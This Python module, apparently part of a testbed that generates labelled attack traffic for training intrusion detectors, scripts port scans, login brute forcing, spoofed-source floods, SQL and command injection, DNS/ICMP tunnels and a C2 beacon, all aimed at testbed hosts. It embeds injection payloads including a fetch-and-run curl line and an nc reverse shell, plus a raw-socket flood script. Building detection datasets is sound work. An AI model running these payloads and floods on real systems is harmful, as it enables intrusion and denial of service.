"""The wide profile's scenarios: each attack family from several real tools, settings drawn.

A *slot* is one step of a wide run (``portscan``, ``ssh_bruteforce``, ...);
it lists variants, each a ``Scenario`` with its own tool and label, and the
runner draws one variant per slot per seed among those whose tools are
installed. Arguments within a variant (timing template, port order, thread
counts, rates, techniques, tamper scripts, spoofed sources) are drawn by the
variant's builder from the step's generator, so every choice is in the
manifest's command lines and the same seed makes it again.

Labels keep CIC-IDS2017's names where the family has one; the others
(``OS Fingerprinting``, ``Web Directory Brute Force``, ``ICMP Tunnel``,
``C2 Beacon``, ``DoS UDP Flood``, ``DoS ICMP Flood``, ``Web Attack – Command
Injection``, ``Redis Brute Force``) are listed in the testbed README's label
table.
"""

from __future__ import annotations

import base64
import ipaddress
import urllib.parse
from collections.abc import Callable

from trafficlm.training.testbed import public_names
from trafficlm.training.testbed.office_protocols import (
    kerberos_logins,
    sip_calls,
    unanswered_lookups,
)
from trafficlm.training.testbed.scenarios import (
    BENIGN,
    SCENARIOS,
    TRAVERSAL,
    USER_AGENTS,
    Budget,
    Commands,
    Scenario,
    _curl,
    _search_curl,
    _think,
)
from trafficlm.training.testbed.server_programs import (
    IODINE_NET,
    IODINE_ZONE,
    LOGIN_PASSWORD,
    LOGIN_USER,
    PROGRAMS,
    TUNNEL_ZONE,
)
from trafficlm.training.testbed.webapp import USER as WEB_USER
from trafficlm.training.testbed.world import SPOOF_RANGE

DIRECTORY_WORDS = (
    "admin", "backup", "config", "login", "old", "test", "dev", "api", "v1", "v2", "uploads",
    "images", "static", "js", "css", "private", "secret", "db", "sql", "phpmyadmin", "wp-admin",
    "wp-login.php", "server-status", ".git", ".env", "cgi-bin", "console", "dashboard", "debug",
    "docs", "blog", "products", "support", "news", "team", "robots.txt", "sitemap.xml", "tmp",
    "logs", "install", "setup", "portal", "shop", "cart", "checkout", "user", "users", "account",
)
INJECTIONS = (";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; ls -la /", "&& ping -c 1 "
              "127.0.0.1", "|| curl http://198.18.0.9/x.sh | sh", "; nc -e /bin/sh 198.18.0.9 4444",
              "%0Aid", "; sleep 5")


def _scan_timing(b: Budget) -> list[str]:
    order = [] if b.rng.random() < 0.5 else ["-r"]
    return [f"-T{b.rng.choice((3, 4, 4, 5))}", "--max-retries", str(b.rng.choice((0, 1, 2))),
            *order]


def _ports(b: Budget) -> list[str]:
    return b.rng.choice((["-p", "1-1000"], ["--top-ports", str(b.rng.choice((100, 500, 1000)))],
                         ["-p", f"1-{b.rng.choice((1024, 2048, 4096))}"],
                         ["-p", "3000-3999"]))  # the servers' firewalled range: filtered


def nmap_scan(kind: str) -> Callable[[Budget], Commands]:
    """An nmap raw or connect scan, through the host's stack (``--send-ip``) so its link applies."""
    def build(b: Budget) -> Commands:
        target = b.rng.choice((b.at(), b.at("ssh")))
        return [["nmap", "-n", "-Pn", "--send-ip", kind, *_scan_timing(b), *_ports(b), target]]
    return build


SWEEP_PORTS = (445, 22, 23, 80, 443, 3389, 5900, 8080)


def _dark_subnet(b: Budget) -> str:
    """A /24 inside the spoofed range: routed to the switch and dropped there, so, like most
    of a swept net, nothing answers (and nothing leaves the testbed)."""
    spoof = ipaddress.ip_network(SPOOF_RANGE)
    return str(list(spoof.subnets(new_prefix=24))[b.rng.randrange(2 ** (24 - spoof.prefixlen))])


def nmap_sweep(b: Budget) -> Commands:
    """One port on every address of a /24 (Zeek's address scan, a worm's or an operator's
    sweep), unlike the other scans' many ports on one host."""
    return [["nmap", "-n", "-Pn", "--send-ip", b.rng.choice(("-sS", "-sT")), *_scan_timing(b),
             "-p", str(b.rng.choice(SWEEP_PORTS)), _dark_subnet(b)]]


def hping3_scan(b: Budget) -> Commands:
    flags = b.rng.choice((["-S"], ["-F"], ["-A"], ["-S", "-F", "-P", "-U"]))
    return [["hping3", *flags, "--scan", f"1-{b.rng.choice((500, 1000, 2000))}",
             "-i", f"u{b.rng.choice((500, 1000, 3000))}", b.at()]]


def masscan(b: Budget) -> Commands:
    """masscan sends raw frames itself (no host stack, so its link's delay does not apply)."""
    target = b.rng.choice((b.at(), b.at("ssh")))
    return [["masscan", target, f"-p1-{b.rng.choice((1000, 2000, 5000))}",
             "--rate", str(b.rng.choice((200, 500, 1000))), "--router-mac", b.macs[target],
             "--adapter", "eth0", "--adapter-ip", b.own, "--wait", "2"]]


def nmap_service(b: Budget) -> Commands:
    return [["nmap", "-n", "-Pn", "--send-ip", "-sV", "--version-intensity",
             str(b.rng.choice((2, 5, 7))), *_scan_timing(b),
             "-p", "21,22,53,80,123,161,443,1883,5201,6379", b.rng.choice((b.at(), b.at("ssh")))]]


def nmap_aggressive(b: Budget) -> Commands:
    return [["nmap", "-n", "-Pn", "--send-ip", "-A", *_scan_timing(b), "--top-ports",
             str(b.rng.choice((20, 50, 100))), b.at()]]


def nmap_os(b: Budget) -> Commands:
    return [["nmap", "-n", "-Pn", "--send-ip", "-O", "--osscan-guess", *_scan_timing(b),
             "--top-ports", str(b.rng.choice((20, 100))), b.rng.choice((b.at(), b.at("ssh")))]]


def nmap_udp(b: Budget) -> Commands:
    return [["nmap", "-n", "-Pn", "--send-ip", "-sU", *_scan_timing(b), "--top-ports",
             str(b.rng.choice((100, 200, 1000))), b.rng.choice((b.at(), b.at("dns")))]]


def _tasks(b: Budget) -> str:
    return str(b.rng.choice((1, 2, 4, 8)))


def hydra_login(service: str, module: str, user: str | None = LOGIN_USER) -> Callable[[Budget],
                                                                                    Commands]:
    """hydra against ``module://`` on the host serving ``service`` (no login for Redis)."""
    def build(b: Budget) -> Commands:
        wait = ["-w", "1"] if module == "ssh" else []  # sshd hangs up after MaxAuthTries
        login = ["-l", user] if user else []
        return [["hydra", "-I", "-t", _tasks(b), *wait, *login, "-P", b.wordlist,
                 f"{module}://{b.at(service)}"]]
    return build


def medusa_login(service: str, module: str, user: str = LOGIN_USER) -> Callable[[Budget],
                                                                             Commands]:
    return lambda b: [["medusa", "-h", b.at(service), "-u", user, "-P", b.wordlist,
                       "-M", module, "-t", _tasks(b), "-e", b.rng.choice(("n", "s", "ns"))]]


def ncrack_login(service: str, port: int) -> Callable[[Budget], Commands]:
    return lambda b: [["ncrack", "-T", str(b.rng.choice((2, 3, 4))), "--user", LOGIN_USER,
                       "-P", b.wordlist, f"{b.at(service)}:{port}",
                       "-g", f"cl={b.rng.choice((1, 2, 4))}"]]


def patator_login(service: str, module: str, failure: str | None = None,
                  user: str = LOGIN_USER) -> Callable[[Budget], Commands]:
    ignore = ["-x", f"ignore:mesg={failure}"] if failure else []
    return lambda b: [["patator", module, f"host={b.at(service)}", f"user={user}",
                       "password=FILE0", f"0={b.wordlist}", "-t", _tasks(b), *ignore]]


FTP_GUESSER = """
import ftplib, sys, time
host, user, wordlist = sys.argv[1:4]
pause, end = float(sys.argv[4]), time.monotonic() + float(sys.argv[5])
for password in open(wordlist, encoding="utf-8").read().split():
    if time.monotonic() > end:
        break
    try:
        with ftplib.FTP(host, timeout=5) as ftp:  # leaving the block sends QUIT
            ftp.login(user, password)
    except (ftplib.Error, OSError):
        pass
    time.sleep(pause)
"""


def ftp_guesser(b: Budget) -> Commands:
    """A script's sequential guessing: one password a connection, QUIT after each 530, a
    pause drawn between (Zeek's ftp bruteforce trace: 30 connections, one after another)."""
    pause = b.rng.choice(("0", "0.5", "2"))
    return [["python3", "-c", FTP_GUESSER, b.at("ftp"), LOGIN_USER, b.wordlist, pause,
             f"{b.seconds:.0f}"]]


def hydra_form(b: Budget) -> Commands:
    return [["hydra", "-I", "-t", _tasks(b), "-l", WEB_USER, "-P", b.wordlist, b.at(),
             "http-post-form", "/login:username=^USER^&password=^PASS^:Login failed"]]


def patator_form(b: Budget) -> Commands:
    # resolve= given, or Debian's patator 0.9 hands libcurl an empty RESOLVE entry and fails
    return [["patator", "http_fuzz", f"url={b.url()}/login", f"resolve={b.at()}:{b.at()}",
             "method=POST",
             f"body=username={WEB_USER}&password=FILE0", f"0={b.wordlist}", "-t", _tasks(b),
             "-x", "ignore:fgrep=Login failed"]]


def wfuzz_form(b: Budget) -> Commands:
    return [["wfuzz", "-z", f"file,{b.wordlist}", "-t", _tasks(b), "-d",
             f"username={WEB_USER}&password=FUZZ", "--hs", "Login failed", f"{b.url()}/login"]]


def hydra_basic(b: Budget) -> Commands:
    return [["hydra", "-I", "-t", _tasks(b), "-l", WEB_USER, "-P", b.wordlist, b.at(),
             "http-get", "/admin/"]]


def medusa_basic(b: Budget) -> Commands:
    return [["medusa", "-h", b.at(), "-u", WEB_USER, "-P", b.wordlist, "-M", "http",
             "-m", "DIR:/admin/", "-t", _tasks(b)]]


def _directory_list(b: Budget) -> str:
    return "/usr/share/dirb/wordlists/common.txt" if b.rng.random() < 0.5 else b.wordlist + ".dirs"


def gobuster(b: Budget) -> Commands:
    return [["gobuster", "dir", "-q", "-u", b.url(b.rng.choice(("http", "https"))), "-k",
             "-w", _directory_list(b), "-t", str(b.rng.choice((5, 10, 20))), "--timeout", "5s"]]


def dirb(b: Budget) -> Commands:
    return [["dirb", b.url(), _directory_list(b), "-S", "-r", "-z",
             str(b.rng.choice((0, 10, 50)))]]


def ffuf(b: Budget) -> Commands:
    return [["ffuf", "-s", "-u", f"{b.url()}/FUZZ", "-w", _directory_list(b),
             "-t", str(b.rng.choice((5, 20, 40))), "-mc", "200,301,302,403"]]


def wfuzz_dirs(b: Budget) -> Commands:
    return [["wfuzz", "-z", f"file,{_directory_list(b)}", "-t", str(b.rng.choice((5, 10, 20))),
             "--hc", "404", f"{b.url()}/FUZZ"]]


def _flood_sources(b: Budget) -> list[list[str]]:
    """No spoofing, one forged source, or several (each forged source its own bounded burst)."""
    choice = b.rng.random()
    if choice < 0.35 or not b.spoofed:
        return [[]]
    if choice < 0.65:
        return [["-a", b.rng.choice(b.spoofed)]]
    return [["-a", source] for source in b.rng.sample(b.spoofed, min(6, len(b.spoofed)))]


def hping3_flood(mode: list[str], settings: Callable[[Budget], list[str]]) -> Callable[
        [Budget], Commands]:
    def build(b: Budget) -> Commands:
        sources = _flood_sources(b)
        interval = b.rng.choice((300, 500, 1000, 2000))
        count = int(min(b.seconds, 10) * 1_000_000 / interval / len(sources))
        return [["hping3", *mode, *settings(b), *source, "-i", f"u{interval}", "-c", str(count),
                 b.at()] for source in sources]
    return build


def t50_flood(protocol: str, *extra: str) -> Callable[[Budget], Commands]:
    def build(b: Budget) -> Commands:
        source = b.rng.choice(b.spoofed) if b.spoofed else "198.18.0.1"
        return [["t50", b.at(), "--threshold", str(b.rng.choice((2000, 5000, 10000))),
                 "--protocol", protocol, *extra, "--saddr", source]]
    return build


MANY_SOURCE_FLOOD = """
import ipaddress, random, socket, struct, sys, time
target, port, count, seconds, pool, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \\
    float(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
net, kind, size = ipaddress.ip_network(sys.argv[7]), sys.argv[8], int(sys.argv[9])
try:  # the kernel fragments no header-included packet: keep each within the link's MTU
    mtu = int(open("/sys/class/net/eth0/mtu").read())
except (OSError, ValueError):
    mtu = 1280  # the least any testbed link has
size = min(size, mtu - 28)
rng = random.Random(seed)
draw = lambda: socket.inet_aton(str(net.network_address + rng.randrange(1, net.num_addresses - 1)))
sources = [draw() for _ in range(pool)] if pool else None
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst = socket.inet_aton(target)
def checksum(data):
    data += b"\\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
def syn(src):
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port, rng.getrandbits(32), 0,
                      0x50, 0x02, rng.choice((64240, 29200, 65535, 8192)), 0, 0)
    return 6, tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, 20)
                                                       + tcp)) + tcp[18:]
def udp(src):  # checksum 0: none, as IPv4 allows
    return 17, struct.pack("!HHHH", rng.randrange(1024, 65535), port, 8 + size, 0) + bytes(size)
def icmp(src):  # echo request
    body = struct.pack("!HH", rng.getrandbits(16), rng.getrandbits(16)) + bytes(size)
    return 1, struct.pack("!BBH", 8, 0, checksum(struct.pack("!BBH", 8, 0, 0) + body)) + body
build = {"syn": syn, "udp": udp, "icmp": icmp}[kind]
start = time.monotonic()
for k in range(count):
    ahead = start + k * seconds / count - time.monotonic()
    if ahead > 0.002:
        time.sleep(ahead)
    if time.monotonic() - start > seconds + 1:
        break
    src = rng.choice(sources) if sources else draw()
    protocol, l4 = build(src)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, rng.choice((64, 128, 255)),
                     protocol, 0, src, dst)
    out.sendto(ip + l4, (target, 0))
"""


def many_source_flood(kind: str, ports: tuple[str, ...]) -> Callable[[Budget], Commands]:
    """SYNs, datagrams or echo requests from thousands of forged sources of the spoofed
    range (a botnet's, or a --rand-source flood's, kept inside the range the testbed owns):
    each new source is one more flow, so only what the victim sees together tells the
    attack."""
    def build(b: Budget) -> Commands:
        seconds = min(b.seconds, 10)
        rate = b.rng.choice((1000, 3000, 8000))
        pool = b.rng.choice((0, 200, 2000))  # 0: a new source for every packet
        size = "0" if kind == "syn" else b.rng.choice(("0", "8", "64", "512", "1400"))
        return [["python3", "-c", MANY_SOURCE_FLOOD, b.at(), b.rng.choice(ports),
                 str(int(rate * seconds)), str(seconds), str(pool),
                 str(b.rng.randrange(1 << 30)), SPOOF_RANGE, kind, size]]
    return build


def _http_port(b: Budget) -> list[str]:
    return ["-p", "80"]


def _udp_flood_settings(b: Budget) -> list[str]:
    """A UDP flood's port and datagram size: hping3's default is port 0 with no payload;
    recorded floods elsewhere also hit services with full-size datagrams."""
    port = b.rng.choice(([], ["-p", "53"], ["-p", "123"], ["-p", "++1024"], ["-p", "161"]))
    return [*port, *_flood_payload(b)]


def _icmp_flood_settings(b: Budget) -> list[str]:
    """An ICMP flood's type (echo requests, timestamps, or BlackNurse's destination
    unreachable, port unreachable) and size."""
    kind = b.rng.choice(([], ["-C", "13"], ["-C", "3", "-K", "3"]))
    return [*kind, *_flood_payload(b)]


def _flood_payload(b: Budget) -> list[str]:
    size = b.rng.choice((0, 0, 32, 512, 1400))
    return ["-d", str(size)] if size else []


def siege(b: Budget) -> Commands:
    return [["siege", "-b", "-q", "-c", str(b.rng.choice((25, 50, 100))),
             "-t", f"{int(min(b.seconds, 20))}S", f"{b.url()}{b.rng.choice(b.pages)}"]]


def wrk(b: Budget) -> Commands:
    return [["wrk", "-t", "2", "-c", str(b.rng.choice((20, 50, 100))),
             "-d", f"{int(min(b.seconds, 20))}s", f"{b.url()}{b.rng.choice(b.pages)}"]]


def ab(b: Budget) -> Commands:
    return [["ab", "-q", "-n", str(int(b.seconds * 200)), "-c", str(b.rng.choice((20, 50, 100))),
             "-s", "5", f"{b.url()}{b.rng.choice(b.pages)}"]]


def slowhttptest(mode: str) -> Callable[[Budget], Commands]:
    def build(b: Budget) -> Commands:
        connections = str(b.rng.choice((150, 300, 500)))
        target = f"{b.url()}/download.bin" if mode == "-X" else f"{b.url()}/"
        extra = ["-r", "100", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"] \
            if mode == "-X" else ["-i", str(b.rng.choice((5, 10, 15))), "-r", "100",
                                  "-x", str(b.rng.choice((10, 24, 40)))]
        method = ["-t", "POST"] if mode == "-B" else ["-t", "GET"]
        return [["slowhttptest", mode, "-c", connections, *extra, *method, "-p", "3",
                 "-l", str(int(b.seconds)), "-u", target]]
    return build


def sqlmap(b: Budget) -> Commands:
    technique = b.rng.choice(("B", "E", "U", "BEU", "BEUS"))
    tamper = b.rng.choice(([], ["--tamper=space2comment"], ["--tamper=between,randomcase"],
                           ["--tamper=charencode"]))
    return [["sqlmap", "-u", b.search_url("router"), "--batch", "--flush-session",
             f"--technique={technique}", f"--level={b.rng.choice((1, 2, 3))}", *tamper,
             "--random-agent", f"--threads={b.rng.choice((1, 2, 4))}", "--timeout=5",
             "--output-dir=sqlmap", "--disable-coloring", "--banner",
             "--tables"]]


SQL_INJECTIONS = (
    "' or '1'='1", "%' or '0'='0", "1' OR '1'='1", "1' UNION SELECT NULL, version() #",
    "%' or 0=0 union select null, version() #", "admin'--", "' OR 1=1 LIMIT 1 -- -",
    "' and 1=0 union select null, concat(first_name,0x0a,password) from users #",
    "1' ORDER BY 3#", "1' AND SLEEP(3)-- -", "-1 UNION ALL SELECT table_name,2 FROM "
    "information_schema.tables", "1; DROP TABLE users--")


def hand_sql_injection(b: Budget) -> Commands:
    """What a person types into a form, not what sqlmap sends: one to six classic payloads,
    form-encoded as a browser sends them (spaces as +), with pauses to read the answer
    (the DVWA captures: one to three such requests)."""
    commands = []
    for _ in range(b.rng.randint(1, 6)):
        query = urllib.parse.quote_plus(b.rng.choice(SQL_INJECTIONS))
        commands += [_curl(b, f"{b.search_url(query)}&Submit=Submit"), _think(b, 1.0, 4.0)]
    return commands


def hand_traversal(b: Budget) -> Commands:
    """One to four ``../`` requests by hand, in a path or a page parameter (DVWA's file
    inclusion capture: one request)."""
    commands = []
    for _ in range(b.rng.randint(1, 4)):
        target = b.rng.choice(TRAVERSAL)
        url = b.rng.choice((f"{b.url()}/docs/?page={target}", f"{b.url()}/docs/{target}",
                            f"{b.url()}{b.search[0]}?{b.rng.choice(('page', 'file'))}={target}"))
        commands += [_curl(b, url, "--path-as-is"), _think(b, 1.0, 4.0)]
    return commands


def command_injection(b: Budget) -> Commands:
    commands = []
    for _ in range(max(10, int(b.seconds * 2))):
        target = f"{b.rng.choice(('router', 'tap', '127.0.0.1'))}{b.rng.choice(INJECTIONS)}"
        commands += [_search_curl(b, target), _think(b, 0.05, 0.6)]
    return commands


ENCODERS = {
    "base32": lambda data: base64.b32encode(data).decode().rstrip("=").lower(),
    "base64": lambda data: base64.b64encode(data, b"-_").decode().rstrip("="),
    "hex": lambda data: data.hex(),
}


def dns_encoder(b: Budget) -> Commands:
    """A second tunnel encoder: base32/base64/hex labels, TXT/NULL/CNAME/A/MX, drawn rates."""
    encoder = ENCODERS[b.rng.choice(sorted(ENCODERS))]
    kind = b.rng.choice(("TXT", "NULL", "CNAME", "A", "MX"))
    gap = b.rng.choice(("0.05", "0.1", "0.3"))
    zone = b.rng.choice((TUNNEL_ZONE, f"x.{TUNNEL_ZONE}"))
    commands = []
    for i in range(max(20, int(b.seconds / float(gap)))):
        chunk = encoder(b.rng.randbytes(b.rng.choice((20, 30, 45))))
        labels = ".".join(chunk[j:j + 60] for j in range(0, len(chunk), 60))
        tcp = ["+tcp"] if b.rng.random() < 0.1 else []
        commands += [["dig", "+time=1", "+tries=1", *tcp, f"@{b.at('dns')}",
                      f"{labels}.{i}.{zone}", kind], ["sleep", gap]]
    return commands


def beacon(b: Budget) -> Commands:
    """Command-and-control stand-in: check-ins at a fixed period with jitter, small posts."""
    period = b.rng.choice((1.0, 2.0, 3.0))
    jitter = b.rng.choice((0.0, 0.1, 0.3))
    scheme = b.rng.choice(("http", "https"))
    path = b.rng.choice(("/api/v1/update", "/static/js/app.js", "/news/feed.html", "/cdn/pixel"))
    agent = b.rng.choice(("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Microsoft-CryptoAPI/10.0",
                          "python-requests/2.31.0"))
    commands = []
    for _ in range(max(5, int(b.seconds / period))):
        body = base64.b64encode(b.rng.randbytes(b.rng.choice((16, 32, 64)))).decode()
        commands += [["curl", "-s", "-k", "-o", "/dev/null", "--max-time", "3", "-A", agent,
                      "-H", f"Cookie: session={body[:24]}", *(
                          ["-d", f"id={body}"] if b.rng.random() < 0.3 else []),
                      f"{b.url(scheme)}{path}"],
                     ["sleep", f"{period * b.rng.uniform(1 - jitter, 1 + jitter):.2f}"]]
    return commands


def icmp_tunnel(b: Budget) -> Commands:
    """ptunnel-ng: a TCP session (SSH) carried inside ICMP echo to the proxy on the SSH host."""
    port = str(b.rng.randrange(8000, 9000))
    ssh = (f"sshpass -p {LOGIN_PASSWORD} ssh -p {port} -o StrictHostKeyChecking=no "
           f"-o UserKnownHostsFile=/dev/null -o ConnectTimeout=8 {LOGIN_USER}@127.0.0.1 "
           f"'cat /etc/services; uname -a'")
    return [["sh", "-c", f"ptunnel-ng -p{b.at('icmp_proxy')} -l{port} -r{b.at('ssh')} -R22 & "
             "p=$!; "
             f"trap 'kill $p' EXIT INT TERM; sleep 2; {ssh}; {ssh}; kill $p"]]


def iodine(b: Budget) -> Commands:
    """iodine: an IP tunnel in DNS, record type and encoding drawn, carrying pings and a fetch."""
    kind = b.rng.choice(("NULL", "TXT", "SRV", "MX", "CNAME", "A"))
    encoding = b.rng.choice(("Base32", "Base64", "Base128", "Raw"))
    tunnel = (f"iodine -f -r -P {LOGIN_PASSWORD} -T {kind} -O {encoding} -I 1 "
              f"{b.at('dns_tunnel_server')} {IODINE_ZONE}")
    work = (f"ping -c {b.rng.choice((10, 20, 40))} -i 0.3 -W 1 {IODINE_NET}; "
            f"curl -s -o /dev/null --max-time 8 http://{IODINE_NET}/ || true")
    return [["sh", "-c", f"{tunnel} & p=$!; trap 'kill $p' EXIT INT TERM; sleep 4; {work}; "
             "kill $p"]]


def lab_builder(name: str) -> Callable[[Budget], Commands]:
    """A lab scenario's commands, reused as a wide variant."""
    return SCENARIOS[name].build


def _variant(name: str, label: str, tools: tuple[str, ...], build, text: str) -> Scenario:
    return Scenario(name, label, "attacker", tools, build, text)


def _tool_family(label: str, variants: tuple[tuple[str, Callable[[Budget], Commands]], ...]
                 ) -> tuple[Scenario, ...]:
    """Variants named ``tool_target``: the tool is the name's first part."""
    return tuple(_variant(name, label, (name.split("_")[0],), build, name.replace("_", " "))
                 for name, build in variants)


def _four_tools(label: str, service: str, port: int, patator_module: str,
                failure: str) -> tuple[Scenario, ...]:
    """hydra, medusa, ncrack and patator against one login service."""
    return _tool_family(label, (
        (f"hydra_{service}", hydra_login(service, service)),
        (f"medusa_{service}", medusa_login(service, service)),
        (f"ncrack_{service}", ncrack_login(service, port)),
        (f"patator_{service}", patator_login(service, patator_module, failure))))


SSH, FTP, WEB_BF = "SSH-Patator", "FTP-Patator", "Web Attack \u2013 Brute Force"
ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
    "portscan": (*(_variant(f"nmap{k}", "PortScan", ("nmap",), nmap_scan(k), f"nmap {k}")
                   for k in ("-sS", "-sT", "-sF", "-sX", "-sN", "-sA")),
                 _variant("hping3_scan", "PortScan", ("hping3",), hping3_scan, "hping3 --scan"),
                 _variant("masscan", "PortScan", ("masscan",), masscan, "masscan"),
                 _variant("nmap_sweep", "PortScan", ("nmap",), nmap_sweep,
                          "nmap, one port of a /24")),
    "version_scan": (
        _variant("nmap-sV", "ServiceScan", ("nmap",), nmap_service, "nmap -sV"),
        _variant("nmap-A", "ServiceScan", ("nmap",), nmap_aggressive, "nmap -A")),
    "os_fingerprint": (
        _variant("nmap-O", "OS Fingerprinting", ("nmap",), nmap_os, "nmap -O"),),
    "udp_scan": (_variant("nmap-sU", "UDPScan", ("nmap",), nmap_udp, "nmap -sU"),),
    "ssh_bruteforce": _four_tools(SSH, "ssh", 22, "ssh_login", "Authentication failed."),
    "ftp_bruteforce": (*_four_tools(FTP, "ftp", 21, "ftp_login", "Login incorrect."),
                       _variant("python_ftp", FTP, ("python3",), ftp_guesser,
                                "ftplib, one guess a connection, QUIT after each 530")),
    "web_bruteforce": (
        _variant("hydra_form", WEB_BF, ("hydra",), hydra_form, "hydra http-post-form"),
        _variant("patator_form", WEB_BF, ("patator",), patator_form, "patator http_fuzz"),
        _variant("wfuzz_form", WEB_BF, ("wfuzz",), wfuzz_form, "wfuzz POST"),
        _variant("hydra_basic", WEB_BF, ("hydra",), hydra_basic, "hydra HTTP Basic auth"),
        _variant("medusa_basic", WEB_BF, ("medusa",), medusa_basic, "medusa HTTP Basic auth")),
    "redis_bruteforce": (
        _variant("hydra_redis", "Redis Brute Force", ("hydra",),
                 hydra_login("redis", "redis", user=None), "hydra redis"),),
    "mail_bruteforce": _tool_family("Mail Brute Force", (
        ("hydra_imap", hydra_login("imap", "imap")),
        ("hydra_pop3", hydra_login("imap", "pop3")),
        ("medusa_imap", medusa_login("imap", "imap")),
        ("medusa_pop3", medusa_login("imap", "pop3")),
        ("ncrack_imap", ncrack_login("imap", 143)), ("ncrack_pop3", ncrack_login("imap", 110)),
        ("patator_imap", patator_login("imap", "imap_login")),
        ("patator_pop3", patator_login("imap", "pop_login")))),
    "database_bruteforce": _tool_family("Database Brute Force", (
        ("hydra_postgres", hydra_login("database", "postgres", "postgres")),
        ("medusa_postgres", medusa_login("database", "postgres", "postgres")),
        ("patator_postgres", patator_login("database", "pgsql_login", user="postgres")))),
    "smb_bruteforce": _tool_family("SMB Brute Force", (
        # Debian's hydra has no libsmbclient, so no smb2 module: SMB1 guessing only
        ("hydra_smb", hydra_login("smb", "smb")), ("ncrack_smb", ncrack_login("smb", 445)),
        ("medusa_smbnt", medusa_login("smb", "smbnt")))),
    "web_dirscan": tuple(_variant(n, "Web Directory Brute Force", (n,), f, n) for n, f in (
        ("gobuster", gobuster), ("dirb", dirb), ("ffuf", ffuf), ("wfuzz", wfuzz_dirs))),
    "syn_flood": (
        _variant("hping3_syn", "DoS Syn Flood", ("hping3",),
                 hping3_flood(["-S"], _http_port), "hping3 -S"),
        _variant("t50_syn", "DoS Syn Flood", ("t50",),
                 t50_flood("TCP", "--syn", "--dport", "80"), "t50 TCP SYN"),
        _variant("many_source_syn", "DoS Syn Flood", ("python3",),
                 many_source_flood("syn", ("80", "443")),
                 "SYNs from thousands of forged sources")),
    "udp_flood": (
        _variant("hping3_udp", "DoS UDP Flood", ("hping3",),
                 hping3_flood(["--udp"], _udp_flood_settings), "hping3 --udp"),
        _variant("t50_udp", "DoS UDP Flood", ("t50",), t50_flood("UDP", "--dport", "53"),
                 "t50 UDP"),
        _variant("many_source_udp", "DoS UDP Flood", ("python3",),
                 many_source_flood("udp", ("0", "53", "123", "80", "9")),
                 "datagrams from thousands of forged sources")),
    "icmp_flood": (
        _variant("hping3_icmp", "DoS ICMP Flood", ("hping3",),
                 hping3_flood(["--icmp"], _icmp_flood_settings), "hping3 --icmp"),
        _variant("t50_icmp", "DoS ICMP Flood", ("t50",), t50_flood("ICMP"), "t50 ICMP"),
        _variant("many_source_icmp", "DoS ICMP Flood", ("python3",),
                 many_source_flood("icmp", ("0",)), "echo requests from thousands of forged "
                 "sources")),
    "http_flood": (
        _variant("ab", "DoS HTTP Flood", ("ab",), ab, "ApacheBench"),
        _variant("siege", "DoS HTTP Flood", ("siege",), siege, "siege -b"),
        _variant("wrk", "DoS HTTP Flood", ("wrk",), wrk, "wrk")),
    "slowloris": (_variant("slowloris", "DoS Slowloris", ("slowhttptest",),
                           slowhttptest("-H"), "slowhttptest -H"),),
    "slowhttp": (
        _variant("slow_read", "DoS Slowhttptest", ("slowhttptest",), slowhttptest("-X"),
                 "slowhttptest -X"),
        _variant("slow_body", "DoS Slowhttptest", ("slowhttptest",), slowhttptest("-B"),
                 "slowhttptest -B")),
    "sql_injection": (_variant("sqlmap", "Web Attack \u2013 Sql Injection", ("sqlmap",), sqlmap,
                               "sqlmap, technique and tamper drawn"),
                      _variant("curl_sqli", "Web Attack \u2013 Sql Injection", ("curl",),
                               hand_sql_injection, "classic payloads typed into a form")),
    "xss": (_variant("curl_xss", "Web Attack \u2013 XSS", ("curl",), lab_builder("xss"),
                     "reflected XSS payloads"),),
    "path_traversal": (_variant("curl_traversal", "Web Attack \u2013 Path Traversal", ("curl",),
                                lab_builder("path_traversal"), "../ variants"),
                       _variant("hand_traversal", "Web Attack \u2013 Path Traversal", ("curl",),
                                hand_traversal, "a few ../ requests by hand")),
    "command_injection": (_variant("curl_injection", "Web Attack \u2013 Command Injection",
                                   ("curl",), command_injection, "shell metacharacters"),),
    "dns_tunnel": (
        _variant("dig_base32", "DNS Tunnel", ("dig",), lab_builder("dns_tunnel"), "base32 dig"),
        _variant("dig_encoders", "DNS Tunnel", ("dig",), dns_encoder, "encoder and type drawn"),
        _variant("iodine", "DNS Tunnel", ("iodine",), iodine, "iodine, type and encoding drawn")),
    "icmp_tunnel": (_variant("ptunnel-ng", "ICMP Tunnel", ("ptunnel-ng", "sshpass"), icmp_tunnel,
                             "SSH inside ICMP echo"),),
    "c2_beacon": (_variant("curl_beacon", "C2 Beacon", ("curl",), beacon,
                           "periodic check-ins with jitter"),),
}
MIXED_SLOTS = ("portscan", "ssh_bruteforce", "sql_injection", "slowloris", "dns_tunnel",
               "web_dirscan", "c2_beacon")


def browse_with_assets(b: Budget) -> Commands:
    """Page views that fetch each page's assets over one connection, HTTP/1.1 or HTTP/2."""
    commands = []
    for _ in range(max(3, int(b.seconds / 2))):
        page = b.rng.choice(b.pages)
        scheme = b.rng.choice(("http", "https"))
        version = ["--http2"] if scheme == "https" and b.rng.random() < 0.6 else ["--http1.1"]
        urls = [f"{b.url(scheme)}{path}" for path in (page, *b.assets.get(page, ()))]
        outputs = [x for u in urls for x in ("-o", "/dev/null", u)]
        commands += [["curl", "-s", "-k", "--max-time", "10", *version, "-A",
                      b.rng.choice(USER_AGENTS), *outputs],
                     _think(b, 0.5, 3.0)]
    return commands


def http_methods(b: Budget) -> Commands:
    """The HTTP an ordinary site sees besides page views: HEAD and OPTIONS checks, range
    and conditional requests, HTTP/1.0, PUT and DELETE refused, the 404s of favicons and
    stale links; each one request of a client, not a sweep."""
    stamp = "Sat, 01 Jun 2024 10:00:00 GMT"
    habits = (["-I"], ["-X", "OPTIONS"], ["-r", "0-1023"], ["-r", "2048-"],
